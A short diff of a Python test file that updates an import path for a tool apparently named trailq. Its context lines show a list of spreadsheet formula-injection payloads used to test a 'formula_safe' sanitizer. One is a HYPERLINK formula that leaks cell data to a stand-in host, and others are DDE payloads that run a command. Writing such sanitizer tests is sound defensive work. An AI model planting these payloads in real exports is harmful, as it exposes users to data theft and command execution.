@@ -8,7 +8,7 @@ import io
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from trailq.output import RenderOptions, formula_safe, render
+from trailq.reporting.output import RenderOptions, formula_safe, render
 from trailq.result import Result, Target
 
 DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
